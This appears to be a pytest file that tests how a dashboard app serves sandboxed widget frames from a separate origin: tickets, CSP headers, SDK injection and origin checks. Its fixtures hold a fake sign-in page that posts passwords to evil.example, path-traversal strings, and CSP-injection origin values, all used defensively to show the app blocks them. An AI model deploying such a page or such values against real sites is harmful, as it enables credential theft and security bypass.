"""Frames: the frames origin, tickets, the files they serve, their headers and who may
get one.

The app's settings are the defaults: the app is ``http://127.0.0.1:8000`` and the
frames origin ``http://127.0.0.1:8001``. The test client tells them apart as a browser
does, by the URL's host and port (``http://testserver`` is the app)."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cryptography.fernet import Fernet
from fastapi import FastAPI
from fastapi.testclient import TestClient
from pydantic import ValidationError
from sqlalchemy import event
from sqlalchemy.orm import Session

from tests.api.test_dashboards import WIDGET_SCHEMA, World, make_module
from tests.conftest import Account
from visualbox.api import frames as frames_api
from visualbox.app import create_app
from visualbox.db.tables.accounts import User
from visualbox.db.tables.modules import Module
from visualbox.errors import NotFound, Unavailable
from visualbox.services import blobs, dashboards, frames, modules, registry
from visualbox.services.secrets import SecretBox
from visualbox.settings import FrameSettings, ServerSettings, Settings

APP = "http://127.0.0.1:8000"
FRAMES = "http://127.0.0.1:8001"
INDEX = b"<!DOCTYPE html>\n<html lang='en'><head><title>W</title></head><body>v1</body></html>"
SDK_TAG = b"<script>/*\n * The VisualBox widget SDK"


def widget(app: FastAPI, account: Account, files: dict[str, bytes], publish: str | None) -> str:
    """A widget module of ``account`` with ``files``, published as ``publish`` if given."""
    module_id = make_module(app, account, "widget", WIDGET_SCHEMA, publish=False)
    with app.state.db.session() as db:
        module = db.get(Module, module_id)
        for path, content in files.items():
            modules.write_file(db, module, path, content)
        if publish:
            registry.publish(db, module, publish)
    return module_id


def registry_frame(client: TestClient, module_id: str, version: str = "latest") -> str:
    response = client.get(f"/api/registry/modules/{module_id}/versions/{version}/frame")
    assert response.status_code == 200, response.text
    url: str = response.json()["url"]
    assert re.fullmatch(rf"{FRAMES}/frames/[A-Za-z0-9_-]{{40,}}/", url), url
    return url


def ticket_of(url: str) -> str:
    return url.removeprefix(FRAMES).split("/")[2]


def box_of(app: FastAPI) -> SecretBox:
    box: SecretBox = app.state.secret_box
    return box


@pytest.fixture
def world(app: FastAPI, make_account: Callable[..., Account]) -> World:
    return World(app, make_account)


def test_a_frame_serves_the_version_with_the_sdk_first_and_strict_headers(
    app: FastAPI, client: TestClient, make_account: Callable[..., Account]
) -> None:
    files = {"index.html": INDEX, "js/app.js": b"draw();", "style.css": b"b{}", "a.svg": b"<svg/>"}
    module_id = widget(app, make_account(), files, publish="1.0.0")
    url = registry_frame(client, module_id)
    assert registry_frame(client, module_id) == url  # stable: reloads hit the browser cache

    page = client.get(url)
    assert page.status_code == 200
    assert page.headers["content-type"] == "text/html; charset=utf-8"
    assert page.content.startswith(b"<!DOCTYPE html>" + SDK_TAG)
    assert page.content.count(b"<script") == 1 and page.content.endswith(b"v1</body></html>")
    csp = [part.strip() for part in page.headers["content-security-policy"].split(";")]
    assert csp[0] == "sandbox allow-scripts"
    for directive in (
        "default-src 'none'",
        "connect-src 'none'",
        f"frame-ancestors {APP}",
        "base-uri 'none'",
        "form-action 'none'",
    ):
        assert directive in csp
    assert "allow-same-origin" not in page.headers["content-security-policy"]
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["referrer-policy"] == "no-referrer"
    assert page.headers["cross-origin-resource-policy"] == "cross-origin"
    cache = page.headers["cache-control"]
    max_age = int(re.fullmatch(r"private, max-age=(\d+)", cache).group(1))  # type: ignore[union-attr]
    assert 12 * 3600 - 60 <= max_age <= 13 * 3600
    assert client.get(url + "index.html").content == page.content

    script = client.get(url + "js/app.js")
    assert script.content == b"draw();" and script.headers["content-type"].startswith(
        "text/javascript"
    )
    assert script.headers["content-security-policy"] == page.headers["content-security-policy"]
    assert client.get(url + "style.css").headers["content-type"] == "text/css; charset=utf-8"
    svg = client.get(url + "a.svg")
    assert svg.content == b"<svg/>" and svg.headers["content-type"].startswith("image/svg+xml")
    assert client.get(url + "missing.js").status_code == 404
    assert client.get(url + "js/../../x").status_code == 404
    redirect = client.get(url.rstrip("/"), follow_redirects=False)
    assert redirect.status_code == 308 and FRAMES + redirect.headers["location"] == url


def test_the_sdk_is_served_as_javascript(client: TestClient) -> None:
    sdk = client.get(f"{FRAMES}/frames/sdk.js")
    assert sdk.status_code == 200
    assert sdk.headers["content-type"] == "text/javascript; charset=utf-8"
    assert b"window.visualbox = visualbox" in sdk.content
    assert "sandbox allow-scripts" in sdk.headers["content-security-policy"]


def test_bad_tickets_answer_404(
    app: FastAPI, client: TestClient, make_account: Callable[..., Account], tmp_path: Path
) -> None:
    module_id = widget(app, make_account(), {"index.html": INDEX}, publish="1.0.0")
    ticket = ticket_of(registry_frame(client, module_id))
    assert client.get(f"{FRAMES}/frames/{ticket}/").status_code == 200
    middle = len(ticket) // 2
    flipped = ticket[:middle] + ("A" if ticket[middle] != "A" else "B") + ticket[middle + 1 :]
    box = box_of(app)
    with app.state.db.session() as db:
        row = registry.get_version(db, db.get(Module, module_id), "1.0.0")
        content_hash = row.content_hash
    expired = frames.issue_ticket(
        box, module_id, "1.0.0", content_hash, now=time.time() - 14 * 3600
    )
    other_server = frames.issue_ticket(
        SecretBox([Fernet.generate_key()]), module_id, "1.0.0", content_hash
    )
    not_a_ticket = box.encrypt_json({"m": module_id, "v": "1.0.0", "h": content_hash, "x": 2**40})
    wrong_hash = frames.issue_ticket(box, module_id, "1.0.0", "0" * 64)
    for bad in (
        flipped,
        ticket[:-4],
        ticket + "AAAA",
        "lib-but-not-a-ticket",
        "x" * 300,
        "%C3%A9" * 30,
        expired,
        other_server,
        not_a_ticket.rstrip("="),
        wrong_hash,
    ):
        page = client.get(f"{FRAMES}/frames/{bad}/")  # a page: a message the frame can show
        assert page.status_code == 404, bad
        assert page.headers["content-type"] == "text/html; charset=utf-8"
        assert b"No such frame" in page.content and b"<script" not in page.content
        assert page.headers["content-security-policy"].startswith("sandbox allow-scripts;")
        file = client.get(f"{FRAMES}/frames/{bad}/app.js")  # any other file: the JSON error
        assert file.status_code == 404 and file.json()["error"]["code"] == "not_found"
    with pytest.raises(NotFound):
        frames.open_ticket(box, ticket, now=time.time() + 14 * 3600)  # expires later


def test_a_ticket_names_exactly_one_version(
    app: FastAPI, client: TestClient, make_account: Callable[..., Account]
) -> None:
    owner = make_account()
    module_id = widget(app, owner, {"index.html": INDEX, "old.js": b"1"}, publish="1.0.0")
    other_id = widget(app, owner, {"index.html": b"<p>other</p>"}, publish="1.0.0")
    first = registry_frame(client, module_id)
    other = registry_frame(client, other_id)
    with app.state.db.session() as db:
        module = db.get(Module, module_id)
        modules.write_file(db, module, "index.html", INDEX.replace(b"v1", b"v2"))
        modules.delete_path(db, module, "old.js")
        registry.publish(db, module, "1.1.0")
    latest = registry_frame(client, module_id)
    assert latest != first
    assert client.get(first).content.endswith(b"v1</body></html>")
    assert client.get(first + "old.js").content == b"1"
    assert client.get(latest).content.endswith(b"v2</body></html>")
    assert client.get(latest + "old.js").status_code == 404
    assert client.get(registry_frame(client, module_id, "1.0.0")).content.endswith(
        b"v1</body></html>"
    )
    assert b"other" in client.get(other).content and b"v1" not in client.get(other).content
    # A yanked version keeps working for those who pinned it.
    owner.http.post(f"/api/registry/modules/{module_id}/versions/1.0.0/yank")
    assert client.get(first).status_code == 200


def test_the_studio_preview_is_the_owners_and_dies_when_the_working_copy_changes(
    app: FastAPI, client: TestClient, make_account: Callable[..., Account]
) -> None:
    owner, stranger = make_account(), make_account()
    module_id = widget(app, owner, {"index.html": b"<p>draft</p>"}, publish=None)
    response = owner.http.post(f"/api/modules/{module_id}/frame")
    assert response.status_code == 200, response.text
    url = response.json()["url"]
    page = client.get(url)  # the ticket is the capability: no cookie or token needed
    assert page.status_code == 200 and page.content == SDK_TAG + page.content[len(SDK_TAG) :]
    assert page.content.endswith(b"<p>draft</p>")
    assert stranger.http.post(f"/api/modules/{module_id}/frame").status_code == 404
    assert client.post(f"/api/modules/{module_id}/frame").status_code == 401
    assert client.get(f"/api/registry/modules/{module_id}/versions/latest/frame").status_code == 404

    owner.http.put(f"/api/modules/{module_id}/files/index.html", content=b"<p>edited</p>")
    assert client.get(url).status_code == 404
    fresh = owner.http.post(f"/api/modules/{module_id}/frame").json()["url"]
    assert client.get(fresh).content.endswith(b"<p>edited</p>")
    owner.http.put(f"/api/modules/{module_id}/files/config.json", content=b"{broken")
    broken = owner.http.post(f"/api/modules/{module_id}/frame")
    assert broken.status_code == 200  # the preview works while config.json is being edited

    integration = make_module(app, owner, "integration", [], publish=True)
    refused = owner.http.post(f"/api/modules/{integration}/frame")
    assert refused.status_code == 422 and refused.json()["error"]["fields"][0]["field"] == (
        "module_id"
    )
    assert client.get(f"/api/registry/modules/{integration}/versions/1.0.0/frame").status_code == (
        422
    )


def test_dashboards_and_their_public_view_carry_frame_urls(
    world: World, client: TestClient, app: FastAPI
) -> None:
    draft = widget(app, world.owner, {"index.html": b"<p>working copy</p>"}, publish=None)
    content = world.content()
    content["widgets"].append({**content["widgets"][0], "id": "w2", "module_id": draft})
    content["widgets"][1].update(version="working", config={})
    created = world.owner.http.post("/api/dashboards", json=content)
    assert created.status_code == 201, created.text
    dashboard = created.json()
    frames_by_id = {w["id"]: w["frame"] for w in dashboard["widgets"]}
    assert client.get(frames_by_id["w1"]).status_code == 200
    assert client.get(frames_by_id["w2"]).content.endswith(b"<p>working copy</p>")

    # Answers carry `frame`, which is read-only: a save that sends it back is refused
    # (naming the field), and a save without it keeps the widgets.
    content = {k: dashboard[k] for k in ("name", "integrations", "widgets")}
    refused = world.owner.http.put(
        f"/api/dashboards/{dashboard['id']}", json={"revision": 1, **content}
    )
    assert refused.status_code == 422
    problems = refused.json()["error"]["fields"]
    assert {f["field"] for f in problems} == {"widgets[0].frame", "widgets[1].frame"}
    assert problems[0]["reason"].startswith("is not a field of this request")
    content["widgets"] = [{k: v for k, v in w.items() if k != "frame"} for w in content["widgets"]]
    saved = world.owner.http.put(
        f"/api/dashboards/{dashboard['id']}", json={"revision": 1, **content}
    )
    assert saved.status_code == 200, saved.text
    assert all(w["frame"] for w in saved.json()["widgets"])
    exported = world.owner.http.get(f"/api/dashboards/{dashboard['id']}/export").json()
    assert "frame" not in json.dumps(exported)

    shared = world.owner.http.post(
        f"/api/dashboards/{dashboard['id']}/sharing", json={"public": True}
    ).json()
    view = client.get(f"/api/public/dashboards/{shared['token']}").json()
    public_frames = {w["id"]: w["frame"] for w in view["widgets"]}
    assert client.get(public_frames["w1"]).status_code == 200
    assert client.get(public_frames["w2"]).content.endswith(b"<p>working copy</p>")


def test_a_module_that_is_not_a_widget_has_no_frame(
    world: World, app: FastAPI, client: TestClient
) -> None:
    dashboard = world.create()
    with app.state.db.session() as db:
        owner = db.get(User, world.owner.id)
        row = frames.dashboard_frames(
            db, box_of(app), dashboards.get_dashboard(db, owner, dashboard["id"]), FRAMES
        )
        assert row["w1"] is not None
        module = db.get(Module, world.widget)
        module.kind = "integration"  # no longer a widget: no frame, no file
        db.commit()
        row = frames.dashboard_frames(
            db, box_of(app), dashboards.get_dashboard(db, owner, dashboard["id"]), FRAMES
        )
        assert row == {"w1": None}


def test_libraries_are_served_from_the_package(
    client: TestClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "uplot").mkdir()
    (tmp_path / "uplot" / "uPlot.min.js").write_bytes(b"var uPlot=1;")
    monkeypatch.setattr(frames_api, "LIB_DIR", tmp_path)
    lib = client.get(f"{FRAMES}/frames/lib/uplot/uPlot.min.js")
    assert lib.status_code == 200 and lib.content == b"var uPlot=1;"
    assert lib.headers["content-type"].startswith("text/javascript")
    assert lib.headers["cross-origin-resource-policy"] == "cross-origin"
    assert lib.headers["access-control-allow-origin"] == "*"
    for missing in ("nope.js", "uplot", "..%2Fsecret", "uplot/../../x"):
        assert client.get(f"{FRAMES}/frames/lib/{missing}").status_code == 404, missing


LIBRARY_PAGE = (
    "<!doctype html><html><head><title>Chart ✓</title>"
    '<link rel="stylesheet" href="/frames/lib/uplot.min.css">'
    '<link rel="stylesheet" href="/frames/lib/leaflet.css">'
    '<script src="/frames/lib/echarts.min.js"></script>'
    "<script src='/frames/lib/not-ours.js'></script>"
    '<script SRC="/frames/lib/echarts.min.js" ></script >'
    "</head><body><script>draw('</script>')</script><!-- x --></body></html>"
)


def test_a_page_using_served_libraries_gets_them_from_its_host(
    app: FastAPI, client: TestClient, make_account: Callable[..., Account]
) -> None:
    """The frame's boot page names the libraries (with their content hashes) and carries
    the widget's page, without those tags, as a JS string (docs/widgets.md)."""
    files = {"index.html": LIBRARY_PAGE.encode()}
    url = registry_frame(client, widget(app, make_account(), files, publish="1.0.0"))
    page = client.get(url)
    assert page.status_code == 200
    match = re.fullmatch(
        rb'<!doctype html><html><head><meta charset="utf-8">'
        + re.escape(SDK_TAG)
        + rb'.*?</script><script>visualbox._boot\((.*?),(".*")\)</script></head></html>',
        page.content,
        re.S,
    )
    assert match is not None, page.text
    version = frames_api.library_version("echarts.min.js")
    css = frames_api.library_version("uplot.min.css")
    assert version is not None and re.fullmatch("[0-9a-f]{16}", version)
    assert css is not None and frames_api.library_version("leaflet.css") is None  # url()s
    assert json.loads(match.group(1)) == [["uplot.min.css", css], ["echarts.min.js", version]]
    assert b"</" not in match.group(2) and b"<!--" not in match.group(2)
    assert json.loads(match.group(2)) == (
        "<!doctype html><html><head><title>Chart ✓</title>"
        "<!--visualbox-library:uplot.min.css-->"
        '<link rel="stylesheet" href="/frames/lib/leaflet.css">'
        "<script src='/frames/lib/not-ours.js'></script>"
        "</head><body><script>draw('</script>')</script><!-- x --></body></html>"
    )
    csp = page.headers["content-security-policy"]
    assert csp == client.get(url + "missing.html").headers["content-security-policy"]
    assert "connect-src 'none'" in csp and "allow-same-origin" not in csp
    # Only pages: the same file as another type, and unknown libraries, are left alone.
    assert frames.boot_page(b"<p>\xff</p>", "/sdk.js", {"echarts.min.js": version}) is None
    assert frames.boot_page(LIBRARY_PAGE.encode(), "/sdk.js", {}) is None


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        (b"<!doctype html><p>x", b"<!doctype html><S><p>x"),
        (b"\xef\xbb\xbf<!DOCTYPE html>\n<p>", b"\xef\xbb\xbf<!DOCTYPE html><S>\n<p>"),
        (b"<!-- c -->\n<!DOCTYPE html><p>", b"<!-- c -->\n<!DOCTYPE html><S><p>"),
        (b"<script>early()</script><!doctype html>", b"<S><script>early()</script><!doctype html>"),
        (b"\xef\xbb\xbf<p>", b"\xef\xbb\xbf<S><p>"),
        (b"", b"<S>"),
    ],
)
def test_the_sdk_goes_before_everything_but_the_doctype(html: bytes, expected: bytes) -> None:
    tag = b"<script>sdk()</script>"
    assert frames.inject_sdk(html, tag.decode()) == expected.replace(b"<S>", tag)


def test_the_inline_sdk_ends_only_at_its_own_end_tag() -> None:
    """Text in the SDK that the HTML parser would take for the end of the script (or the
    start of an escaped part) is escaped; JavaScript reads the same strings."""
    script = frames.sdk_script(b'a = "</script><p>"; b = "<!--"; c = "<SCRIPT>"; d = "</Script >"')
    assert script.lower().count("</script") == 1 and script.endswith("</script>")
    assert "<!--" not in script and "<script>" not in script.lower()[8:]
    assert (
        script == '<script>a = "<\\/script><p>"; b = "<\\!--"; '
        'c = "<\\SCRIPT>"; d = "<\\/Script >"</script>'
    )


def test_frame_url_and_open_ticket_round_trip(app: FastAPI) -> None:
    box = box_of(app)
    ticket = frames.issue_ticket(box, "m1", None, "h" * 64)
    opened = frames.open_ticket(box, ticket)
    assert (opened.module_id, opened.version, opened.content_hash) == ("m1", None, "h" * 64)
    assert "=" not in ticket and opened.expires_at % 3600 == 0
    assert 12 * 3600 <= opened.expires_at - time.time() <= 13 * 3600


def test_the_version_cache_keeps_recent_trees_within_its_budget() -> None:
    cache = frames._TreeCache(max_bytes=10)
    cache.put("a", {"x": b"1234"})
    cache.put("b", {"x": b"1234"})
    assert cache.get("a") == {"x": b"1234"}  # now the most recent
    cache.put("c", {"x": b"1234"})  # 12 bytes: the least recent, "b", goes
    assert cache.get("b") is None and cache.get("a") is not None and cache.get("c") is not None
    cache.put("huge", {"x": b"x" * 11})  # larger than the budget: never kept
    assert cache.get("huge") is None and cache.get("a") is not None


def test_image_origins_the_operator_allows_join_the_frame_policy(
    app: FastAPI, client: TestClient, make_account: Callable[..., Account]
) -> None:
    module_id = widget(app, make_account(), {"index.html": INDEX}, publish="1.0.0")
    url = registry_frame(client, module_id)
    default = client.get(url).headers["content-security-policy"]
    assert "img-src 'self' data: blob:;" in default

    app.state.settings.frames.img_sources = ["https://tiles.example.org", "http://127.0.0.1:8081"]
    policy = client.get(url).headers["content-security-policy"]
    assert "img-src 'self' data: blob: https://tiles.example.org http://127.0.0.1:8081;" in policy
    assert policy.replace(" https://tiles.example.org http://127.0.0.1:8081", "") == default


@pytest.mark.parametrize(
    "origin",
    ["javascript:alert(1)", "https://t.example.org/tiles", "*", "https://a.org; script-src *"],
)
def test_image_origins_must_be_plain_origins(origin: str) -> None:
    with pytest.raises(ValidationError, match="is not an origin"):
        FrameSettings(img_sources=[origin])


# -- the frames origin ------------------------------------------------------------------

PHISHING = (
    b"<!doctype html><title>Sign in to VisualBox</title>"
    b"<form action='https://evil.example/steal'><input name=password type=password></form>"
)


def test_html_module_files_are_served_by_the_frames_origin_only(
    app: FastAPI, client: TestClient, make_account: Callable[..., Account]
) -> None:
    """A published HTML file (a fake sign-in page, say) is never a page of the app's
    origin: it answers there with a redirect, and the frames origin serves it in a
    sandbox that only the app may frame. Scripts and stylesheets are plain text there."""
    files = {"index.html": INDEX, "login.html": PHISHING, "js/app.js": b"steal();"}
    module_id = widget(app, make_account(), files, publish="1.0.0")
    on_app = f"/api/registry/modules/{module_id}/versions/1.0.0/files/login.html"
    answer = client.get(on_app, follow_redirects=False)
    assert answer.status_code == 307
    assert "text/html" not in answer.headers.get("content-type", "")
    assert b"password" not in answer.content
    location = answer.headers["location"]
    assert location == f"{FRAMES}/registry/modules/{module_id}/versions/1.0.0/files/login.html"

    page = client.get(location)
    assert page.status_code == 200 and page.content == PHISHING
    assert page.headers["content-type"] == "text/html; charset=utf-8"
    policy = page.headers["content-security-policy"]
    assert policy.startswith("sandbox allow-scripts;") and "allow-same-origin" not in policy
    assert f"frame-ancestors {APP};" in policy and "connect-src 'none'" in policy
    assert page.headers["x-content-type-options"] == "nosniff"

    script = client.get(f"/api/registry/modules/{module_id}/versions/1.0.0/files/js/app.js")
    assert script.status_code == 200 and script.content == b"steal();"
    assert script.headers["content-type"] == "text/plain; charset=utf-8"  # never runnable
    assert script.headers["x-content-type-options"] == "nosniff"
    missing = f"{FRAMES}/registry/modules/{module_id}/versions/1.0.0/files/nope.html"
    assert client.get(missing).status_code == 404


def test_each_origin_serves_only_its_own_paths(
    app: FastAPI, client: TestClient, make_account: Callable[..., Account]
) -> None:
    module_id = widget(app, make_account(), {"index.html": INDEX}, publish="1.0.0")
    url = registry_frame(client, module_id)
    path = url.removeprefix(FRAMES)
    assert client.get(url).status_code == 200
    # The app's origin (any host but the frames origin's) has no frame or SDK to give.
    for other in ("http://testserver", APP, "http://localhost:8001", "http://127.0.0.1:8002"):
        for frame_path in (path, "/frames/sdk.js", "/frames/lib/echarts.min.js"):
            answer = client.get(other + frame_path)
            assert answer.status_code == 404, other + frame_path
            assert answer.headers["content-type"] == "application/json"
    # The frames origin has nothing but frames and module files: no API, no web app.
    for other_path in ("/api/health", "/api/auth/me", "/", "/explore", "/api/docs"):
        answer = client.get(FRAMES + other_path)
        assert answer.status_code == 404, other_path
        assert "text/html" not in answer.headers["content-type"]
    assert client.get(f"{FRAMES}/frames/sdk.js", headers={"host": "127.0.0.1:8001"}).is_success


def test_a_frames_origin_that_is_the_apps_own_is_refused(tmp_path: Path) -> None:
    for origin, reason in (("http://127.0.0.1:8000", "differ"), ("https://f.example", "http")):
        settings = Settings(
            data_dir=tmp_path,
            server=ServerSettings(port=8000),
            frames=FrameSettings(origin=origin),
        )
        with pytest.raises(Unavailable) as info:
            create_app(settings)
        [field] = info.value.fields
        assert field.field == "VISUALBOX_FRAMES__ORIGIN" and reason in field.reason
    assert Settings(data_dir=tmp_path).frames_origin == "http://127.0.0.1:8001"
    assert (
        Settings(
            data_dir=tmp_path, frames=FrameSettings(origin="https://f.example.org/")
        ).frames_origin
        == "https://f.example.org"
    )
    with pytest.raises(ValidationError, match="is not an origin"):
        FrameSettings(origin="https://f.example.org/path")


def test_an_anonymous_working_copy_frame_request_reads_one_file_at_most(
    world: World, client: TestClient, app: FastAPI, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A public dashboard shows its owner's working copy: every visitor holds a ticket
    to it. Neither the public view nor a request for one of its files may load the whole
    working copy (up to 20 MB): only the file asked for is read from the database."""
    big = {f"data/{n}.bin": bytes([n]) * (4 * 1024 * 1024) for n in range(4)}
    draft = widget(app, world.owner, {"index.html": b"<p>draft</p>", **big}, publish=None)
    content = world.content()
    content["widgets"][0].update(module_id=draft, version="working", config={})
    dashboard = world.owner.http.post("/api/dashboards", json=content).json()
    shared = world.owner.http.post(
        f"/api/dashboards/{dashboard['id']}/sharing", json={"public": True}
    ).json()

    loaded: list[int] = []  # bytes of file content each read of the blobs table returned
    real_get_blob, real_get_blobs = blobs.get_blob, blobs.get_blobs

    def get_blob(db: Session, sha: str) -> bytes:
        data = real_get_blob(db, sha)
        loaded.append(len(data))
        return data

    def get_blobs(db: Session, shas: set[str]) -> dict[str, bytes]:
        found = real_get_blobs(db, shas)
        loaded.append(sum(len(data) for data in found.values()))
        return found

    monkeypatch.setattr(blobs, "get_blob", get_blob)
    monkeypatch.setattr(blobs, "get_blobs", get_blobs)

    view = client.get(f"/api/public/dashboards/{shared['token']}")
    url = view.json()["widgets"][0]["frame"]
    assert sum(loaded) == 0  # issuing the ticket read no file
    for missing in ("nope.js", "data/nope.bin", "x/y/z.css"):
        assert client.get(url + missing).status_code == 404
    assert sum(loaded) == 0  # a file that is not there reads nothing
    assert client.get(url).content.endswith(b"<p>draft</p>")
    assert client.get(url + "data/2.bin").content == big["data/2.bin"]
    assert loaded == [len(b"<p>draft</p>"), 4 * 1024 * 1024]  # exactly the two files
    assert url.startswith(f"{FRAMES}/frames/")

    # A bad ticket is refused before the database is asked anything.
    ticket = ticket_of(url)
    statements: list[str] = []

    def record(*args: Any) -> None:
        statements.append(str(args[2]))

    engine = app.state.db.engine
    event.listen(engine, "before_cursor_execute", record)
    try:
        forged = ticket[:-6] + ("AAAAAA" if not ticket.endswith("AAAAAA") else "BBBBBB")
        assert client.get(f"{FRAMES}/frames/{forged}/data/1.bin").status_code == 404
    finally:
        event.remove(engine, "before_cursor_execute", record)
    assert statements == [] and sum(loaded) == len(b"<p>draft</p>") + 4 * 1024 * 1024


def test_the_frames_origin_may_be_a_host_name_of_its_own(settings: Settings) -> None:
    """Behind a proxy: both names reach one port and the Host header tells them apart."""
    settings.server.public_url = "http://dash.test"
    settings.frames.origin = "http://frames.test"
    app = create_app(settings)
    try:
        with TestClient(app, base_url="http://dash.test") as client:
            for same in ("http://frames.test", "http://FRAMES.test:80"):
                assert client.get(f"{same}/frames/sdk.js").status_code == 200, same
            for other in ("http://dash.test", "http://frames.test:8080", "http://frames.test.x"):
                assert client.get(f"{other}/frames/sdk.js").status_code == 404, other
            policy = client.get("/").headers["content-security-policy"]
            assert "frame-src http://frames.test;" in policy
            sdk = client.get("http://frames.test/frames/sdk.js")
            assert "frame-ancestors http://dash.test;" in sdk.headers["content-security-policy"]
    finally:
        app.state.db.dispose()
